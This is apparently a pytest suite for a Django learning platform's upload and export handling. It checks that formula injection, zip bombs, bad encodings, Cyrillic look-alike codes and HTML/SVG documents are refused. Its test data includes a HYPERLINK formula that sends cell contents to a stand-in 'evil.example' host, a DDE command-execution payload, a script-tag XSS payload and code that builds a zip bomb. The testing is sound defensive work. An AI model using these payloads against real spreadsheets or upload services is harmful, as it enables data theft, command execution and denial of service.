"""Hostile files and values: formulas in exports, zip bombs, bad encodings, look-alike letters,
HTML posing as a document. Each is refused with a clear message and nothing half-saved."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook, load_workbook

from accounts.import_files import ImportFileRefused, import_file_read
from config.spreadsheets import safe_cell, safe_row, xlsx_text_cell
from courses.factories import course_with_lessons
from courses.models import Enrolment
from institutions.models import ImportJob, Institution
from tests.accounts.import_samples import (
    INSTITUTION_HEADER,
    USER_HEADER,
    csv_upload,
    institution_row,
    user_row,
    xlsx_bytes,
)


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


# --- Formulas in exports -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+381 11 1234 x",
        "-2+3",
        "@SUM(A1:A3)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_like_text_is_kept_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Đorđe", "Ђорђе", "", "a=b", "-3", "+381", "-2.5", 42, None])
def test_ordinary_values_and_plain_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_safe_row_treats_every_cell():
    assert safe_row(["=1", "x", 3]) == ["'=1", "x", 3]


def test_xlsx_text_cell_never_stores_a_formula():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([xlsx_text_cell(sheet, "=1+1"), xlsx_text_cell(sheet, 7)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(values_only=True))
    assert row == ("=1+1", 7)
    # Read back without data_only: a formula would come back as one; text is text.
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s"


# --- Imports: zip bombs, look-alike letters, half-saved files ----------------------------------


def _read(data: bytes, name: str, kind="institutions"):
    return import_file_read(file=io.BytesIO(data), name=name, size=len(data), kind=kind)


def test_a_real_xlsx_zip_bomb_is_refused_before_it_is_unpacked():
    """60 MB of one repeated byte squeezes into a few dozen KB: refused from its directory."""
    good = xlsx_bytes([INSTITUTION_HEADER])
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
    ):
        for entry in source.infolist():
            bomb.writestr(entry, source.read(entry))
        with bomb.open("xl/padding.bin", "w") as padding:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(60):
                padding.write(chunk)
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024
    with pytest.raises(ImportFileRefused, match="unpacks to more than"):
        _read(data, "institutions.xlsx")


def test_a_zip_of_many_small_entries_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(1_001):
            archive.writestr(f"xl/{number}.xml", "")
    with pytest.raises(ImportFileRefused, match="unpacks to more than"):
        _read(buffer.getvalue(), "institutions.xlsx")


def test_a_csv_renamed_xlsx_is_refused_as_not_a_workbook():
    with pytest.raises(ImportFileRefused, match="not a valid Excel workbook"):
        _read(b"code,parent_code\nA,B\n", "institutions.xlsx")


def test_utf16_file_is_refused_as_not_utf8():
    data = "code,parent_code,name_sr,name_en,kind\n".encode("utf-16")
    with pytest.raises(ImportFileRefused, match="not valid UTF-8"):
        _read(data, "institutions.csv")


@pytest.mark.django_db
def test_cyrillic_look_alike_code_does_not_match_the_latin_institution(
    client, mfa_login, administrator, tree, settings, tmp_path
):
    """ "РU-BG" with a Cyrillic Р looks like PU-BG; the import must not file people there."""
    settings.MEDIA_ROOT = tmp_path
    mfa_login(client, administrator)
    upload = csv_upload(
        [
            USER_HEADER,
            user_row("marko@example.org", "PU-BG"),
            user_row("ana@example.org", "\u0420U-BG"),
        ]
    )
    response = client.post("/en/manage/import/", {"kind": "users", "file": upload})
    from accounts.models import User

    if response.status_code == 302:  # checked by a background job
        job = ImportJob.objects.get()
        assert job.status == "failed"
        assert [e["line"] for e in job.row_errors] == [3]
    else:  # checked at once, shown with the form
        html = response.content.decode()
        assert response.status_code == 200
        assert "\u0420U-BG" in html

    assert not User.objects.filter(email__in=["marko@example.org", "ana@example.org"]).exists()


@pytest.mark.django_db
def test_mixed_script_file_keeps_each_name_in_its_own_script(
    client, mfa_login, administrator, tree, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    mfa_login(client, administrator)
    upload = csv_upload(
        [
            INSTITUTION_HEADER,
            institution_row("PS-BG-7", "PU-BG", name="Станица Звездара"),
            institution_row("PS-BG-8", "PU-BG", name="Stanica Čukarica"),
        ],
        bom=True,
    )
    client.post("/en/manage/import/", {"kind": "institutions", "file": upload})
    names = dict(
        Institution.objects.filter(code__startswith="PS-BG-").values_list("code", "name_sr")
    )
    assert names["PS-BG-7"] == "Станица Звездара"
    assert names["PS-BG-8"] == "Stanica Čukarica"


# --- The enrolment upload ------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("people.csv", b"email\n" + b"a@example.org\n" * 200_000, "larger than 2 MB"),
        ("people.xlsx", b"PK\x03\x04 not a csv", "Upload a .csv file."),
        ("people.csv", "email\nana@example.org\n".encode("utf-16"), "not valid UTF-8"),
    ],
)
def test_bad_enrolment_files_are_refused_and_nobody_is_enrolled(
    client, mfa_login, manager_bg, learner, name, data, message
):
    course = course_with_lessons(modules=1, lessons=1)
    mfa_login(client, manager_bg)
    upload = SimpleUploadedFile(name, data, content_type="text/csv")
    response = client.post("/en/manage/enrolments/", {"course": course.pk, "file": upload})
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Enrolment.objects.exists()


# --- Documents: HTML posing as a document would run as our origin ----------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["notes.html", "notes.svg", "run.exe", "notes.pdf.html"])
def test_documents_that_a_browser_would_run_are_refused(client, mfa_login, administrator, name):
    from wagtail.documents import get_document_model

    mfa_login(client, administrator)
    upload = SimpleUploadedFile(name, b"<script>alert(1)</script>", content_type="text/html")
    response = client.post("/admin/documents/add/", {"title": "Notes", "file": upload})
    assert response.status_code == 200  # the form again, with the error
    assert not get_document_model().objects.exists()
